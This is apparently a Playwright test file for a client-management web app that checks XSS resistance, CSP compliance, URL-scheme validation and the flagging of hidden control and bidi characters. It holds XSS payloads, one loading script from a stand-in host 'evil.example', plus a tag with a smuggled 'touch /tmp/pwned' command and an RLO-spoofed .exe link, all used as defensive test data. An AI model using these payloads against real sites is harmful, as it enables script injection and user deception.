import type { Page } from '@playwright/test';
import type { Client } from '../src/shared/clients.ts';
import { test, expect, seedClient } from './fixtures.ts';
import { saveScreen } from './screens.ts';

/**
 * Browser-side safety (issue 7, item 5): stored script payloads render as text and never run,
 * the Content-Security-Policy is never violated, `javascript:` and `data:` domains are refused,
 * and domain links open with noopener noreferrer.
 */

// Each one sets window.__xss if it ever runs; none contains a comma (tags split on commas).
const PAYLOADS = [
  '<img src=x onerror="window.__xss=1">',
  '"><script>window.__xss=1</script>',
  '<svg onload=window.__xss=1>',
  "'><iframe src=javascript:window.__xss=1>",
  'javascript:window.__xss=1',
  '{{constructor.constructor("window.__xss=1")()}}',
  '</code><script src=//evil.example/x.js></script><a href="javascript:window.__xss=1">x</a>',
];

interface Watch {
  dialogs: string[];
}

/** Records dialogs and CSP violations from the first script of every page. */
async function watch(page: Page): Promise<Watch> {
  const seen: Watch = { dialogs: [] };
  page.on('dialog', (dialog) => {
    seen.dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await page.addInitScript(() => {
    const w = window as unknown as { __csp: string[] };
    w.__csp = [];
    document.addEventListener('securitypolicyviolation', (e) => {
      w.__csp.push(`${e.violatedDirective} ${e.blockedURI} ${e.sourceFile}:${e.lineNumber}`);
    });
  });
  return seen;
}

async function expectNothingRan(page: Page, seen: Watch): Promise<void> {
  expect(await page.evaluate(() => (window as unknown as { __xss?: unknown }).__xss)).toBe(
    undefined,
  );
  expect(await page.evaluate(() => (window as unknown as { __csp: string[] }).__csp)).toEqual([]);
  expect(seen.dialogs).toEqual([]);
}

test('script payloads in every field render as text and never run', async ({ page, staff }) => {
  const seen = await watch(page);
  await staff.json('PUT', '/api/me/access-token', { accessToken: PAYLOADS[1] });
  const client = await seedClient(staff, {
    name: PAYLOADS[0],
    code: PAYLOADS[1],
    description: PAYLOADS.join('\n'),
    tags: PAYLOADS,
    server: {
      host: 'hostile.example',
      // Username and host are limited to what ssh takes; this one fits.
      username: '"><script>window.__xss=1</script>',
      password: PAYLOADS[2],
      uiDir: PAYLOADS[3],
    },
    domains: [
      'https://example.com/"><img src=x onerror=window.__xss=1>',
      "https://example.com/?q=';window.__xss=1;//",
    ],
  });

  await page.goto('/');
  // The worker's other tests leave clients before this one: find it as a person would.
  await page.getByRole('searchbox', { name: 'Search clients' }).fill(PAYLOADS[0]!);
  const list = page.getByRole('navigation', { name: 'Clients' });
  await expect(list.getByText(PAYLOADS[0]!, { exact: false }).first()).toBeVisible();
  await expectNothingRan(page, seen);

  await page.goto(`/clients/${client.id}`);
  const panel = page.getByRole('region', { name: 'Selected Client' });
  await expect(
    panel.getByRole('heading', { name: `${PAYLOADS[0]} (${PAYLOADS[1]})` }),
  ).toBeVisible();
  await expect(panel.getByRole('button', { name: `Filter by tag ${PAYLOADS[6]}` })).toBeVisible();
  await expect(panel.getByText(PAYLOADS.join('\n'))).toBeVisible();
  await expect(panel.getByRole('button', { name: `Filter by tag ${PAYLOADS[2]}` })).toBeVisible();
  await expect(panel.getByRole('list', { name: 'History' }).getByRole('listitem')).toHaveCount(1);
  await panel.getByRole('button', { name: 'Reveal password' }).click();
  await expect(panel.getByText(PAYLOADS[2]!, { exact: false }).first()).toBeVisible();
  await expect(panel.getByRole('button', { name: 'Copy Deploy command' })).toBeVisible();
  await expectNothingRan(page, seen);

  await panel.getByRole('button', { name: 'Client actions' }).click();
  await page.getByRole('menuitem', { name: 'Edit' }).click();
  await expect(page.getByLabel('Name', { exact: true })).toHaveValue(PAYLOADS[0]!);
  await expect(page.getByLabel('uiDir', { exact: true })).toHaveValue(PAYLOADS[3]!);
  await saveScreen(page, 'hostile-content/hostile-edit');
  await page.getByRole('button', { name: 'Save' }).click();
  await expect(page.getByText('Client Saved!')).toBeVisible();
  await expectNothingRan(page, seen);

  // Saved back unchanged: the form neither ran nor mangled what it showed.
  const saved = await staff.json<Client>('GET', `/api/clients/${client.id}`);
  expect(saved.body).toMatchObject({ name: PAYLOADS[0], code: PAYLOADS[1], tags: PAYLOADS });
});

test('javascript: and data: domains are refused by the API and by the form; links are noopener noreferrer', async ({
  page,
  staff,
}) => {
  for (const domain of [
    'javascript:alert(1)',
    'JavaScript:alert(1)',
    ' javascript:alert(1)',
    'java\tscript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'vbscript:msgbox(1)',
    'file:///etc/passwd',
  ]) {
    const refused = await staff.json<{ fields?: Record<string, string> }>('POST', '/api/clients', {
      name: 'Bad domain',
      domains: ['https://fine.example', domain],
    });
    expect(refused.status, domain).toBe(400);
    expect(refused.body.fields, domain).toEqual({
      'domains.1': 'Must be an http:// or https:// URL',
    });
  }

  const seen = await watch(page);
  const client = await seedClient(staff, {
    name: 'Links',
    domains: ['https://a.example', 'http://b.example/path'],
  });
  await page.goto(`/clients/${client.id}`);
  const panel = page.getByRole('region', { name: 'Selected Client' });
  const links = panel.getByRole('link', { name: /\.example/ });
  await expect(links).toHaveCount(2);
  for (const link of await links.all()) {
    await expect(link).toHaveAttribute('target', '_blank');
    const rel = ((await link.getAttribute('rel')) ?? '').split(/\s+/);
    expect(rel).toEqual(expect.arrayContaining(['noopener', 'noreferrer']));
  }

  await panel.getByRole('button', { name: 'Client actions' }).click();
  await page.getByRole('menuitem', { name: 'Edit' }).click();
  const domains = page.getByRole('group', { name: 'Domains' });
  await domains.getByRole('textbox', { name: 'Domain 1' }).fill('javascript:alert(1)');
  await page.getByRole('button', { name: 'Save' }).click();
  await expect(domains.getByRole('textbox', { name: 'Domain 1' })).toHaveAccessibleDescription(
    'Must be an http:// or https:// URL',
  );
  await domains.getByRole('textbox', { name: 'Domain 1' }).fill('data:text/html,<b>x</b>');
  await page.getByRole('button', { name: 'Save' }).click();
  await expect(domains.getByRole('textbox', { name: 'Domain 1' })).toHaveAccessibleDescription(
    'Must be an http:// or https:// URL',
  );
  await expect(page.getByText('Client Saved!')).toHaveCount(0);
  const stored = await staff.json<Client>('GET', `/api/clients/${client.id}`);
  expect(stored.body.domains).toEqual(['https://a.example', 'http://b.example/path']);
  await expectNothingRan(page, seen);
});

test('a disabled user with a session left is sent to sign-in and told why', async ({
  page,
  staff,
  server,
}) => {
  await page.goto('/');
  // The list's heading, there whether or not this worker's installation has clients yet.
  await expect(page.getByRole('heading', { name: 'Clients', level: 1 })).toBeVisible();
  const { id } = (await staff.json<{ id: string }>('GET', '/api/me')).body;
  await server.app.parts.db.kysely
    .updateTable('user')
    .set({ disabled: server.config.database.kind === 'postgres' ? true : 1 })
    .where('id', '=', id)
    .execute();
  await page.reload();
  await expect(page).toHaveURL(/\/sign-in\?error=ACCOUNT_DISABLED$/);
  await expect(
    page.getByText(
      'This account is disabled. Ask an administrator if you think that is a mistake.',
    ),
  ).toBeVisible();
  await saveScreen(page, 'hostile-content/disabled');
});

test('a stored tag with a control character is shown as U+0003 and withholds the deploy command; a stored domain shows its bidi character', async ({
  page,
  server,
  staff,
}) => {
  await staff.json('PUT', '/api/me/access-token', { accessToken: 'abc123' });
  const client = await seedClient(staff, {
    name: 'Stored before the check',
    tags: 'eu-west-1',
    server: { host: 'web1.example.com', username: 'deploy' },
  });
  // Written as data from before the check (or straight into the database) would be.
  const { kysely } = server.app.parts.db;
  await kysely
    .updateTable('client')
    .set({
      tags: JSON.stringify(['x\u0003    touch /tmp/pwned\nz']),
      // Reads "https://example.com/exe.jpg"; opens the .exe.
      domains: JSON.stringify(['https://example.com/\u202egpj.exe']),
      version: client.version + 1,
    })
    .where('id', '=', client.id)
    .execute();
  await kysely
    .updateTable('server')
    .set({ uiDir: '/srv/\u202eiu' })
    .where('clientId', '=', client.id)
    .execute();

  await page.setViewportSize({ width: 1366, height: 768 });
  await page.goto(`/clients/${client.id}`);
  const panel = page.getByRole('region', { name: 'Selected Client' });
  await expect(panel.getByLabel('hidden character U+0003')).toBeVisible();
  await expect(
    panel.getByText(
      'No deploy command: the first tag contains a hidden control character (U+0003). Edit it to remove the character.',
    ),
  ).toBeVisible();
  await expect(panel.getByText('"uiDir": "/srv/\\u202eiu"')).toBeVisible();
  const domain = panel.getByRole('link', { name: /^https:\/\/example\.com\// });
  await expect(domain.getByLabel('hidden character U+202E')).toBeVisible();
  await expect(domain).toHaveAttribute('href', 'https://example.com/\u202egpj.exe');
  await expect(panel.getByRole('button', { name: 'Copy Deploy command' })).toHaveCount(0);
  await expect(panel.getByRole('button', { name: 'Copy SSH command' })).toBeVisible();
  await saveScreen(page, 'hostile-content/hidden-tag-desktop');
  await page.setViewportSize({ width: 390, height: 844 });
  await saveScreen(page, 'hostile-content/hidden-tag-phone', { fullPage: true });
});
